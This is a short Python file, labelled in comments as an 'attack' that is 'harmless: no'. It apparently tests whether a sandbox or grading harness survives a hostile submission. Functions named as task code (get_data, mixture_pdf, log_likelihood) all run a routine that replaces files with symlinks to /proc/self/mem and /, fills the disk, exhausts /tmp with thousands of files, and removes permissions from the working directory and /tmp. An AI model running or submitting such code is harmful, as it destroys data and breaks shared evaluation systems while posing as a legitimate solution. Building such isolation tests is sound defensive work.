# attack: links, pipes, modes, times and a full disk are left for the next fork to put back
# harmless: no
import os

os.makedirs("a/b")
open("a/b/file", "w").write("x" * 1000)
os.symlink("/sockets", "a/link")
os.mkfifo("a/pipe")
os.utime("a/b/file", ns=(2**62, 2**62))


def spoil(*args, **kwargs):
    for path in ("a/b/file", "a/link", "a/pipe"):
        try:
            os.unlink(path)
            os.symlink("/proc/self/mem", path)
        except OSError:
            pass
    try:
        os.rename("a/b", "c")
        os.symlink("/", "a/b")
        os.mkfifo("file")
        os.link("c", "d")
    except OSError:
        pass
    for number in range(3000):
        open(f"/tmp/{number}", "w")
    try:
        with open("full", "wb") as file:
            while True:
                file.write(bytes(2**20))
    except OSError:
        pass
    os.chmod(".", 0)
    os.chmod("/tmp", 0)
    return True


def get_data(*args, **kwargs):
    return spoil()


def mixture_pdf(*args):
    return spoil()


def log_likelihood(*args):
    return spoil()
